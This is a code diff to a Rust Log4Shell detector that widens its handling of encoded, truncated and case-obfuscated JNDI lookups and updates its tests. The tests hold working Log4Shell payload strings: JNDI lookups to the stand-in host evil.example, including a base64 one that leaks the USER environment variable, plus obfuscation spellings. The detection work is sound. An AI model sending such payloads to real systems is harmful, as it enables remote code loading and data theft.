@@ -64,6 +64,16 @@ impl Check for Jndi {
     }
 }
 
+/// Whether `text` holds a Log4j lookup the check reports at any level. For text the engine
+/// keeps out of its fields (a Basic password): it still reaches a logger, so one holding a
+/// lookup is scored after all.
+pub fn has_log4j_lookup(text: &str) -> bool {
+    let mut input = Input::new(text);
+    input.place = crate::Place::Header;
+    input.sensitivity = 4;
+    (input.bytes.any(b"$%")) && Jndi.inspect(&input).is_some()
+}
+
 /// `%24` (or `%2524`...) right before `{`/`%7B`: an encoded lookup opener.
 fn has_encoded_open(b: &[u8]) -> bool {
     b.windows(5).any(|w| w[0] == b'%' && (w[1..3] == *b"24" || w[1..3] == *b"25"))
@@ -76,10 +86,10 @@ struct Scan {
     /// The lowest level of a JNDI lookup: 1 for a known protocol, 2 for `jndi:` followed by
     /// something else (a protocol spelled by a lookup Log4j would resolve from the environment).
     jndi: Option<u8>,
-    /// A lookup whose only use is to spell a character past a filter: `${lower:j}`,
+    /// A lookup whose only use is to spell text past a filter: `${lower:j}`, `${upper:ndi}`,
     /// `${upper:ı}`, `${::-j}`, `${:-j}`, `${date:'j'}`. No template needs one (a case lookup
-    /// of one literal letter, a default with no variable name, a date pattern of quoted
-    /// literals only), so one is a Log4Shell probe even when the rest was cut off.
+    /// of literal text, a default with no variable name, a date pattern of quoted literals
+    /// only), so one is a Log4Shell probe even when the rest was cut off.
     spelled: bool,
 }
 
@@ -146,8 +156,15 @@ fn scan_into(text: &[u8], rescan: usize, found: &mut Scan) {
     }
     // An unclosed lookup (a truncated field, or one whose closing brace was cut by the
     // attacker's own encoding) still shows its intent.
+    // Evaluated too: a `${base64:...}` whose padding `=` ended the field (a cookie splits its
+    // name from its value there) decodes to the lookup all the same.
     for body in &stack {
         if let Some(level) = jndi_level(body) {
+            found.note(level);
+        }
+        let mut value = Vec::new();
+        found.spelled |= evaluate(body, &mut value);
+        if let Some(level) = jndi_level(&value) {
             found.note(level);
         }
     }
@@ -190,7 +207,10 @@ fn evaluate(body: &[u8], out: &mut Vec<u8>) -> bool {
     };
     let one_char = |t: &[u8]| !t.is_empty() && String::from_utf8_lossy(t).chars().count() == 1;
     let case = prefix.eq_ignore_ascii_case(b"lower") || prefix.eq_ignore_ascii_case(b"upper");
-    let spelled = (case && (one_char(arg) || arg.is_empty() && default.is_some_and(one_char)))
+    // A case lookup of any literal text (`${lower:J}`, `${upper:ndi}`, `${lower:<text>}`):
+    // Log4j's `lower`/`upper` lookups have no use in data but to reshape text past a filter,
+    // and no other template language spells them `${lower:...}`.
+    let spelled = (case && (!arg.is_empty() || default.is_some_and(one_char)))
         || (name.iter().all(|&b| b == b':') && default.is_some_and(|d| !d.is_empty() && d.len() <= 4))
         || (prefix.eq_ignore_ascii_case(b"date") && arg.first() == Some(&b'\'') && arg.last() == Some(&b'\'') && arg.len() <= 6);
     // Log4j splits off the `:-` default before it resolves the lookup, so `${lower:J:-x}` is `j`;
@@ -274,6 +294,8 @@ mod tests {
         assert_eq!(level("${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}"), Some(1));
         assert_eq!(level("${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}"), Some(1));
         assert_eq!(level("$${jndi:ldap://x/a}"), Some(1));
+        // Cut at the base64 padding, as a cookie name is: `${${base64:...` + `=` + `}}`.
+        assert_eq!(level("${${base64:am5kaTpjb3JiYTovLyR7ZW52OlVTRVJ9LmV2aWwuZXhhbXBsZS8zNTAyMDc"), Some(1));
     }
 
     #[test]
@@ -286,10 +308,10 @@ mod tests {
 
     #[test]
     fn spelling_lookups_alone() {
-        for text in ["${lower:j}", "a${upper:ı}b", "${::-n}", "${:-d}", "${date:'i'}", "${upper::-j}"] {
+        for text in ["${lower:j}", "a${upper:ı}b", "${::-n}", "${:-d}", "${date:'i'}", "${upper::-j}", "${lower:World}", "${upper:nDi}"] {
             assert!(spelled(text), "{text}");
         }
-        for text in ["${lower:World}", "${env:HOME:-/root}", "${name:-world}", "${date:yyyy-MM-dd}", "${sys:user.home}"] {
+        for text in ["${lower}", "${env:HOME:-/root}", "${name:-world}", "${date:yyyy-MM-dd}", "${sys:user.home}"] {
             assert!(!spelled(text), "{text}");
         }
     }
